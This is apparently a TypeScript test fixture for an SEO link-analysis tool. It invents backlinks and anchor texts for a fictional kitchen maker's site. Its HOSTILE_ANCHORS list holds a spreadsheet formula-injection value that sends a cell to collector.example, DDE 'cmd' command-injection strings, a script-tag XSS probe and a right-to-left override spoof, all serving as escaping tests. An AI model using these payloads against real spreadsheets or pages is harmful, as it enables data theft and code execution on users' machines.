/** The client's own site: what is there, what moved, what is dead, and what people write when they link to it. */
import type { SampleAnchorKind, SampleLink } from '../../src/engine/sample/sample-data.ts';
import { SAMPLE_SITE_NAME, sampleProject } from '../../src/engine/sample/sample-project.ts';
import type { SeededRandom } from '../../src/engine/sample/seeded-random.ts';

const HOME = 'https://www.hollow-oak-kitchens.example/';

const TITLES: Readonly<Record<string, string>> = {
  '/': SAMPLE_SITE_NAME,
  '/kitchens/shaker': 'Shaker kitchens',
  '/kitchens/solid-oak': 'Solid oak kitchens',
  '/kitchens/painted-ash': 'Painted ash kitchens',
  '/worktops/oak': 'Oak worktops',
  '/showroom': 'Visit the showroom',
  '/about': 'About the workshop',
  '/prices': 'What our kitchens cost',
  '/contact': 'Contact',
  '/apprenticeships': 'Apprenticeships at Hollow Oak',
  '/journal/how-to-oil-an-oak-worktop': 'How to oil an oak worktop',
  '/journal/dovetail-drawers-explained': 'Dovetail drawers explained',
  '/journal/where-our-timber-comes-from': 'Where our timber comes from',
  '/journal/what-a-handmade-kitchen-costs': 'What a handmade kitchen really costs',
  '/journal/choosing-a-belfast-sink': 'Choosing a Belfast sink',
  '/case-studies/mill-house': 'Case study: the mill house',
  '/case-studies/the-old-rectory': 'Case study: the old rectory',
  '/case-studies/canal-flat': 'Case study: a canal-side flat',
};

export const CLIENT_PAGES = Object.keys(TITLES);
export const CLIENT_REDIRECTS: Readonly<Record<string, string>> = {
  '/shop': '/kitchens/shaker',
  '/index.html': '/',
  '/blog/oiling-worktops': '/journal/how-to-oil-an-oak-worktop',
};
/** Answered with 404 today, though links still point there. */
const DEAD_PATHS = ['/brochure-2021.pdf', '/offers/winter-sale', '/blog/shaker-or-slab'];

const MONEY_ANCHORS = [
  ...sampleProject.settings.moneyWords,
  'bespoke oak kitchens',
  'handmade kitchens uk',
  'solid oak worktops',
  'best kitchen makers',
  'luxury fitted kitchens',
  'oak kitchens for sale',
];
const FOREIGN_ANCHORS: Readonly<Record<string, readonly string[]>> = {
  ru: ['кухни из массива дуба', 'купить кухню', 'Hollow Oak кухни'],
  id: ['dapur kayu jati', 'lemari dapur murah'],
  tr: ['ahşap mutfak', 'mutfak dolabı fiyatları'],
  zh: ['实木厨房', '橡木橱柜定制'],
  ar: ['مطابخ خشبية', 'أفضل المطابخ'],
  he: ['מטבחים מעץ אלון', 'מטבחים בעבודת יד'],
  de: ['englische Eichenküche', 'Küchen aus Massivholz'],
  fr: ['cuisine en chêne massif', 'atelier anglais'],
  nl: ['eiken keuken', 'Engelse keukenmaker'],
};
/** Anchors that a spreadsheet, a terminal or a web page might run, turn round or fail to show. */
export const HOSTILE_ANCHORS = [
  '=HYPERLINK("http://collector.example/?x="&A1,"Error: please click")',
  '+44 1632 960 146',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C notepad'!A1",
  '🪵🔥 best kitchens 🔥🪵',
  '<script>alert(1)</script>',
  '"quoted", with a comma; and more',
  '\u202Emoc.elpmaxe\u202C kitchens',
  'مطابخ oak مصنوعة kitchens يدويا',
  '★★★★★',
];

const ANCHORS: Readonly<Record<Exclude<SampleAnchorKind, 'naked' | 'title' | 'foreign'>, readonly string[]>> = {
  brand: [
    SAMPLE_SITE_NAME,
    SAMPLE_SITE_NAME,
    'Hollow Oak',
    'hollow oak kitchens',
    'Hollow Oak Joinery',
    'HollowOak',
    'the Hollow Oak workshop',
  ],
  compound: [
    'Hollow Oak handmade kitchens',
    'oak worktops by Hollow Oak',
    'Shaker kitchens from Hollow Oak',
    'Hollow Oak bespoke kitchens',
  ],
  money: MONEY_ANCHORS,
  generic: [
    'click here',
    'their website',
    'read more',
    'this page',
    'here',
    'visit the site',
    'have a look at their plans',
  ],
  person: ['Marian Tolliver', 'Jory Tolliver'],
  image: [
    'Oak kitchen island with marble top',
    'Shaker kitchen in sage green',
    'Hollow Oak Kitchens logo',
    'Dovetailed drawer, half open',
    '',
  ],
  empty: [''],
  poison: [
    'online casino bonus',
    'payday loans no credit check',
    'cheap viagra',
    'best online slots',
    'buy tablets online',
  ],
  hostile: HOSTILE_ANCHORS,
};

/** Invents one link to the client. `home` is the share of links that go to the front page. */
export function inventLink(kind: SampleAnchorKind, language: string, home: number, random: SeededRandom): SampleLink {
  const path =
    kind === 'title'
      ? random.pick(CLIENT_PAGES.filter((page) => page.includes('/j') || page.includes('/case')))
      : pickPath(home, random);
  const target = spellTarget(path, random);
  return { target, anchor: anchorText(kind, language, path, target, random), kind };
}

/** An anchor text of a kind; a naked one is the address as people write it. */
export function anchorText(
  kind: SampleAnchorKind,
  language: string,
  path: string,
  target: string,
  random: SeededRandom,
): string {
  if (kind === 'title') return TITLES[path] ?? SAMPLE_SITE_NAME;
  if (kind === 'foreign') return random.pick(FOREIGN_ANCHORS[language] ?? MONEY_ANCHORS);
  if (kind !== 'naked') return random.pick(ANCHORS[kind]);
  const bare = target.replace(/^https?:\/\//, '');
  return random.pick([target, bare, 'www.hollow-oak-kitchens.example', 'hollow-oak-kitchens.example']);
}

function pickPath(home: number, random: SeededRandom): string {
  if (random.chance(home)) return '/';
  if (random.chance(0.05)) return random.pick(DEAD_PATHS);
  if (random.chance(0.05)) return random.pick(Object.keys(CLIENT_REDIRECTS));
  return random.pick(CLIENT_PAGES);
}

/** Links written years ago use the old scheme, the bare host or the name before the rebranding. */
function spellTarget(path: string, random: SeededRandom): string {
  if (path === '/' && random.chance(0.04)) return 'http://www.hollowoak-joinery.example/';
  const base = random.chance(0.82)
    ? HOME
    : random.pick([
        'http://www.hollow-oak-kitchens.example/',
        'https://hollow-oak-kitchens.example/',
        'http://hollow-oak-kitchens.example/',
      ]);
  return base + path.slice(1);
}
